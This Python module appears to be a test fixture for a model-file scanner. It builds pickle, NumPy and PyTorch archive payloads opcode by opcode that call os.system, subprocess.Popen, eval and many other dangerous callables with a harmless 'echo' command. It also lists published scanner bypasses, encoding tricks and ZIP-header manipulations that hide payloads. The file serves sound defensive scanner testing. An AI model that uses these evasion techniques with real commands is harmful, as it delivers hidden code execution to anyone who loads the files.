"""Malicious model files, assembled opcode by opcode so that nothing dangerous ever runs, one family for each way to evade.

Every family gives bytes that would run `echo` or import a dangerous name when an unsuspecting loader opened them.
"""

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

COMMAND = b"echo evaded"
EMPTY_TENSORS = {"archive/version": b"3\n", "archive/data/0": bytes(64)}


def text(value: bytes) -> bytes:
    """SHORT_BINUNICODE of a string."""
    return b"\x8c" + bytes([len(value)]) + value


def called(module: bytes, name: bytes, argument: bytes = COMMAND) -> bytes:
    """A protocol 2 pickle that calls `module.name(argument)`."""
    return (
        b"\x80\x02c"
        + module
        + b"\n"
        + name
        + b"\nX"
        + struct.pack("<I", len(argument))
        + argument
        + b"\x85R."
    )


def stacked(module: bytes, name: bytes, argument: bytes = COMMAND) -> bytes:
    """The same by STACK_GLOBAL in protocol 4."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(argument) + b"\x85R."


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A ZIP of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return out.getvalue()


def torch(payload: bytes, method: int = zipfile.ZIP_STORED, name: str = "archive/data.pkl") -> bytes:
    """A PyTorch archive around a pickle."""
    return zipped({name: payload, **EMPTY_TENSORS}, method)


def framed(payload: bytes) -> bytes:
    """A protocol 4 pickle's body in a frame."""
    return payload[:2] + b"\x95" + struct.pack("<Q", len(payload) - 2) + payload[2:]


def npy(payload: bytes) -> bytes:
    """A NumPy array of objects whose pickle is the payload."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def patched(data: bytes, magic: bytes, offset: int, value: bytes, which: int = 0) -> bytes:
    """An archive whose n-th header of a kind has other bytes at an offset."""
    at = -1
    for _ in range(which + 1):
        at = data.index(magic, at + 1)
    return data[: at + offset] + value + data[at + offset + len(value) :]


LOCAL, ENTRY = b"PK\x03\x04", b"PK\x01\x02"
SHELL = called(b"posix", b"system")
BASE = b"\x80\x04" + text(b"builtins") + text(b"getattr") + b"\x93"


def wrapper(payload: bytes) -> bytes:
    """A joblib array wrapper that asks a loader to skip the payload, which others run."""
    state = b"(" + text(b"shape") + b"K" + bytes([len(payload)]) + b"\x85" + text(b"dtype")
    state += b"cnumpy\ndtype\n" + text(b"u1") + b"\x85R" + b"u"
    return b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}" + state + b"b" + payload + b"."


def unlisted() -> bytes:
    """An archive with an honest directory, and a member that it does not list."""
    hidden = (
        LOCAL
        + struct.pack("<5H3L2H", 20, 0, 0, 0, 0, zlib.crc32(SHELL), len(SHELL), len(SHELL), 8, 0)
        + b"data.pkl"
        + SHELL
    )
    honest = torch(b"\x80\x02}.")
    at = honest.index(ENTRY)
    end = honest.rindex(b"PK\x05\x06")
    moved = honest[:at] + hidden + honest[at:end] + honest[end : end + 16]
    return moved + struct.pack("<I", at + len(hidden)) + honest[end + 20 :]


def two_sizes() -> bytes:
    """The directory says that data.pkl is a short honest pickle; its local header covers a second one behind it."""
    return patched(
        patched(torch(b"\x80\x02}." + SHELL), ENTRY, 20, struct.pack("<I", 4)),
        ENTRY,
        24,
        struct.pack("<I", 4),
    )


def tar(members: dict[str, bytes]) -> bytes:
    """A TAR of these members."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            file.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def legacy(payload: bytes) -> bytes:
    """PyTorch's format before archives: magic number, protocol, system, the object, storage keys, raw storages."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + payload + b"\x80\x02]." + bytes(64)


def bypasses() -> dict[str, bytes]:
    """Names that published bypasses of other tools used (advisories of picklescan, fickling, modelscan), one family each."""
    names = [
        "os.system",
        "posix.system",
        "nt.system",
        "subprocess.Popen",
        "builtins.eval",
        "builtins.exec",
        "__builtin__.eval",
        "builtins.__import__",
        "builtins.compile",
        "builtins.open",
        "runpy._run_code",
        "runpy.run_path",
        "webbrowser.open",
        "socket.create_connection",
        "pty.spawn",
        "shutil.rmtree",
        "sys.exit",
        "importlib.import_module",
        "pip.main",
        "pip._internal.main",
        "idlelib.run.Executive.runcode",
        "idlelib.pyshell.ModifiedInterpreter.runcommand",
        "lib2to3.pgen2.grammar.Grammar.loads",
        "lib2to3.pgen2.pgen.ParserGenerator.make_label",
        "ensurepip._run_pip",
        "doctest.debug_script",
        "code.InteractiveInterpreter.runcode",
        "cProfile.runctx",
        "cProfile.run",
        "profile.Profile.runctx",
        "profile.Profile.run",
        "pdb.run",
        "bdb.Bdb.run",
        "trace.Trace.run",
        "trace.Trace.runctx",
        "timeit.timeit",
        "asyncio.unix_events._UnixSubprocessTransport._start",
        "distutils.file_util.write_file",
        "logging.config.listen",
        "logging.config._resolve",
        "linecache.getlines",
        "urllib.request.urlretrieve",
        "ftplib.FTP",
        "smtplib.SMTP",
        "requests.get",
        "torch.utils._config_module.load_config",
        "torch.utils._config_module.ConfigModule.load_config",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
        "torch.utils.bottleneck.__main__.run_cprofile",
        "torch.utils.bottleneck.__main__.run_autograd_prof",
        "torch.utils.collect_env.run",
        "torch.utils.data.datapipes.utils.decoder.basichandlers",
        "torch.jit.unsupported_tensor_ops.execWrapper",
        "torch._dynamo.guards.GuardBuilder.get",
        "torch.hub.load",
        "torch.load",
        "torch.package.PackageImporter",
        "torch.fx.graph_module.reduce_graph_module",
        "torch._inductor.codecache.compile_file",
        "torch.serialization.load",
        "numpy.f2py.crackfortran.getlincoef",
        "numpy.f2py.crackfortran._eval_length",
        "numpy.f2py.crackfortran.param_eval",
        "numpy.f2py.crackfortran.myeval",
        "numpy.testing._private.utils.runstring",
        "numpy.load",
        "numpy.ctypeslib.load_library",
        "pandas.read_pickle",
        "pandas.eval",
        "joblib.load",
        "dill.loads",
        "dill._dill._create_code",
        "cloudpickle.loads",
        "cloudpickle.cloudpickle._make_function",
        "pickle.loads",
        "_pickle.loads",
        "marshal.loads",
        "types.FunctionType",
        "types.CodeType",
        "ctypes.CDLL",
        "zipimport.zipimporter",
        "operator.attrgetter",
        "operator.methodcaller",
        "_operator.methodcaller",
        "pydoc.pipepager",
        "pydoc.locate",
        "venv.create",
        "multiprocessing.util.spawnv_passfds",
        "uuid._get_command_stdout",
        "_osx_support._read_output",
        "_aix_support._read_cmd_output",
        "test.support.script_helper.assert_python_ok",
        "tempfile.mktemp",
        "mailcap.findmatch",
        "platform.popen",
        "cgitb.lookup",
        "commands.getoutput",
        "sqlite3.connect",
        "xmlrpc.client.ServerProxy",
        "telnetlib.Telnet",
        "imaplib.IMAP4_stream",
        "antigravity.geohash",
        "nntplib.NNTP",
        "gc.get_objects",
        "site.execsitecustomize",
        "sysconfig._generate_posix_vars",
        "pkgutil.resolve_name",
        "inspect.os.system",
        "codeop.compile_command",
        "rlcompleter.Completer.attr_matches",
        "transformers.utils.import_utils.direct_transformers_import",
        "tensorflow.keras.models.load_model",
        "keras.utils.get_file",
        "setuptools.sandbox.run_setup",
    ]
    return {f"bypass:{name}": called(*(part.encode() for part in _split(name))) for name in names}


def _split(name: str) -> tuple[str, str]:
    """Module and name: a class's method stays with its class."""
    parts = name.split(".")
    cut = next(
        (i for i, part in enumerate(parts) if part[:1].isupper() or part.startswith("_Unix")), len(parts) - 1
    )
    cut = 1 if parts[0] == "inspect" else cut
    return ".".join(parts[:cut]), ".".join(parts[cut:])


def streams() -> dict[str, bytes]:
    """Ways to write the same call."""
    memo = (
        b"\x80\x04"
        + text(b"os")
        + b"q\x05"
        + text(b"system")
        + b"q\x060"
        + b"0h\x05h\x06\x93"
        + text(COMMAND)
        + b"\x85R."
    )
    return {
        "protocol 0": b"cos\nsystem\n(S'echo evaded'\ntR.",
        "protocol 0 escapes": b"cos\nsystem\n(S'\\x65cho evaded'\ntR.",
        "protocol 1": b"cos\nsystem\n(U\x0becho evadedtR.",
        "protocol 2": SHELL,
        "protocol 4": stacked(b"os", b"system"),
        "protocol 4 framed": framed(stacked(b"os", b"system")),
        "protocol 5": b"\x80\x05" + stacked(b"os", b"system")[2:],
        "names from memo": memo,
        "names from old strings": b"\x80\x04U\x02osU\x06system\x93U\x0becho evaded\x85R.",
        "names from escaped unicode": b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93V\\u0065cho\n\x85R.",
        "names from bytes": b"\x80\x04C\x02osC\x06system\x93" + text(COMMAND) + b"\x85R.",
        "names from a quoted escape": b"\x80\x04S'\\x6fs'\nS'sys\\x74em'\n\x93S'echo'\n\x85R.",
        "INST": b"(S'echo evaded'\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nS'echo evaded'\no.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\nX\x04\0\0\0echo\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + text(b"subprocess") + text(b"Popen") + b"\x93" + text(b"echo") + b"\x85}\x92.",
        "extension code": b"\x80\x02\x82\x01" + text(COMMAND) + b"\x85R.",
        "import alone": b"\x80\x04" + text(b"antigravity") + text(b"fly") + b"\x93.",
        "call through memo": b"\x80\x02cos\nsystem\nq\x010h\x01" + text(COMMAND) + b"\x85R.",
        "result thrown away": b"\x80\x02cos\nsystem\n" + text(COMMAND) + b"\x85R0}.",
        "getattr of a module": BASE + text(b"importlib") + text(b"import_module") + b"\x93" + text(b"os") + b"\x85R" + text(b"system") + b"\x86R" + text(COMMAND) + b"\x85R.",
        "getattr on a harmless function": BASE + text(b"torch._utils") + text(b"_rebuild_tensor") + b"\x93" + text(b"__globals__") + b"\x86R.",
        "dotted path through a harmless module": stacked(b"torch._utils", b"_rebuild_tensor.__globals__.get"),
        "dotted path to a module's module": stacked(b"torch.serialization", b"os.system"),
        "dotted path in collections": stacked(b"collections", b"_sys.modules.get"),
        "reduce of reduce": b"\x80\x02cfunctools\npartial\ncos\nsystem\n" + text(COMMAND) + b"\x86R)R.",
        "map over eval": b"\x80\x02cbuiltins\nmap\ncbuiltins\neval\n]" + text(COMMAND) + b"a\x86R.",
        "state on a class": b"\x80\x02ccollections\nOrderedDict\n}" + text(b"__reduce__") + b"Nsb.",
        "broken after the call": SHELL[:-1] + b"\xff\xff\xff",
        "cut before STOP": SHELL[:-1],
        "broken protocol 0": b"cos\nsystem\n(S'echo'\ntRzzzz",
        "second pickle": b"\x80\x02}." + SHELL,
        "second pickle of protocol 0": b"\x80\x02}.cos\nsystem\n(S'echo'\ntR.",
        "fourth pickle": b"\x80\x02}.\x80\x02].\x80\x02K\x01." + SHELL,
        "numbers before it": b"\x80\x02(" + b"G" + bytes(8) + b"K\x01" * 500 + b"lcos\nsystem\n" + text(COMMAND) + b"\x85R.",
        "numbers memoised": b"\x80\x04" + text(b"os") + text(b"system") + b"K\x01" * 12 + b"\x94" + b"0" * 12 + b"\x93" + text(COMMAND) + b"\x85R.",
        "long honest start": b"\x80\x02](" + b"".join(b"X\x08\0\0\0word" + str(1000 + n).encode() for n in range(500)) + b"e" + SHELL[2:],
        "mark left on the stack": b"\x80\x02((((" + SHELL[2:],
        "popped mark": b"\x80\x02(}1" + SHELL[2:],
        "duplicate": b"\x80\x02cos\nsystem\n2" + text(COMMAND) + b"\x85R.",
        "module with a space": called(b"os ", b"system"),
        "persistent id": b"\x80\x02cos\nsystem\n" + text(COMMAND) + b"\x85RQ.",
        "unknown module": called(b"evil_helpers", b"boot"),
    }  # fmt: skip


def coded() -> dict[str, bytes]:
    """A payload inside strings, coded or compressed, handed to a loader of pickles or code."""

    def carried(data: bytes, module: bytes = b"pickle", name: bytes = b"loads") -> bytes:
        return b"\x80\x03c" + module + b"\n" + name + b"\nB" + struct.pack("<I", len(data)) + data + b"\x85R."

    return {
        "pickle in bytes": carried(SHELL),
        "pickle in bytes of torch storage": carried(SHELL, b"torch.storage", b"_load_from_bytes"),
        "archive in bytes of torch storage": carried(torch(SHELL), b"torch.storage", b"_load_from_bytes"),
        "base64 unread": carried(base64.b64encode(SHELL), b"_codecs", b"encode"),
        "hex unread": carried(SHELL.hex().encode(), b"_codecs", b"encode"),
        "zlib unread": carried(zlib.compress(SHELL), b"_codecs", b"encode"),
        "gzip unread": carried(gzip.compress(SHELL), b"_codecs", b"encode"),
        "bzip2 unread": carried(bz2.compress(SHELL), b"_codecs", b"encode"),
        "xz unread": carried(lzma.compress(SHELL), b"_codecs", b"encode"),
        "base64 of zlib": carried(base64.b64encode(zlib.compress(SHELL)), b"_codecs", b"encode"),
        "marshalled code": carried(b"\xe3" + bytes(40), b"_codecs", b"encode"),
        "compressed with zlib": zlib.compress(SHELL),
        "compressed with bzip2": bz2.compress(SHELL),
        "compressed with xz": lzma.compress(SHELL),
        "compressed with lzma": lzma.compress(SHELL, format=lzma.FORMAT_ALONE),
        "compressed with gzip": gzip.compress(SHELL),
        "raw array that hides opcodes": wrapper(SHELL[2:-1]),
        "NumPy array of objects": npy(SHELL),
        "NumPy archive": zipped({"arr_0.npy": npy(SHELL)}),
    }  # fmt: skip


def archives() -> dict[str, bytes]:
    """PyTorch archives that readers see differently."""
    plain = torch(SHELL)
    return {
        "archive": plain,
        "archive deflated": torch(SHELL, zipfile.ZIP_DEFLATED),
        "archive with another name": torch(SHELL, name="archive/weights.bin"),
        "archive with a second pickle": zipped({"archive/data.pkl": b"\x80\x02}.", "archive/data/0": SHELL}),
        "archive with constants": zipped({"archive/data.pkl": b"\x80\x02}.", "archive/constants.pkl": SHELL}),
        "archive in an archive": zipped({"archive/data.pkl": b"\x80\x02}.", "archive/inner": plain}),
        "encrypted flag": patched(patched(plain, LOCAL, 6, b"\x01\x00"), ENTRY, 8, b"\x01\x00"),
        "encrypted flag in the directory": patched(plain, ENTRY, 8, b"\x01\x00"),
        "wrong checksum": patched(patched(plain, LOCAL, 14, b"abcd"), ENTRY, 16, b"abcd"),
        "wrong checksum in the directory": patched(plain, ENTRY, 16, b"abcd"),
        "wrong size in the directory": patched(plain, ENTRY, 20, struct.pack("<I", 3)),
        "two sizes": two_sizes(),
        "wrong method in the directory": patched(plain, ENTRY, 10, b"\x63\x00"),
        "wrong method in the local header": patched(plain, LOCAL, 8, b"\x08\x00"),
        "other name in the directory": patched(plain, ENTRY, 46, b"archive/dat_.pkl"),
        "not in the directory": unlisted(),
        "duplicate names": _twice(),
        "bytes in front": b"\x80\x02}." + plain,
        "text in front": b"#!/bin/sh\n" + plain,
        "bytes behind": plain + bytes(100),
        "no end record": plain[: plain.rindex(b"PK\x05\x06")],
        "cut in the directory": plain[:-30],
        "legacy": legacy(SHELL),
        "legacy tar": tar({"sys_info": b"\x80\x02}.", "pickle": SHELL, "storages": bytes(8)}),
        "packed as 7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60),
    }


def _twice() -> bytes:
    """Two members of one name: the first is called, the second is looked at."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("archive/data.pkl", SHELL)
        file.writestr("archive/data.pk_", b"\x80\x02}.")
    return out.getvalue().replace(b"data.pk_", b"data.pkl")


def malicious() -> dict[str, bytes]:
    """Every family by its name."""
    return {**streams(), **coded(), **archives(), **bypasses()}


def benign() -> dict[str, bytes]:
    """Harmless files that look alike: what a false alarm would be made of."""
    tensor = (
        b"ctorch._utils\n_rebuild_tensor_v2\n(("
        + text(b"storage")
        + b"ctorch\nFloatStorage\n"
        + text(b"0")
        + text(b"cpu")
    )
    tensor += b"K\x10tQK\x00(K\x04K\x04t(K\x04K\x01t\x89ccollections\nOrderedDict\n)RtR"
    state = b"\x80\x02ccollections\nOrderedDict\n)R(" + text(b"layer.weight") + tensor + b"u."
    words = (
        b"\x80\x04]("
        + b"".join(text(one) for one in (b"os", b"system", b"eval", b"__reduce__", b"exec(x)"))
        + b"e."
    )
    return {
        "state of a torch model": torch(state),
        "state of a torch model, deflated": torch(state, zipfile.ZIP_DEFLATED),
        "legacy torch": legacy(state),
        "bare state": state,
        "words that are names of functions": words,
        "numbers": b"\x80\x02](" + b"K\x01" * 5000 + b"e.",
        "array of numbers": b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }".ljust(117) + b"\n" + bytes(16),
        "base64 of noise": b"\x80\x04X\x40\0\0\0" + base64.b64encode(bytes(range(100, 148))) + b".",
        "numpy scalar": b"\x80\x02cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\nX\x02\0\0\0f8\x89\x88\x87R(K\x03X\x01\0\0\0<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tbC\x08" + bytes(8) + b"\x86R.",
    }  # fmt: skip
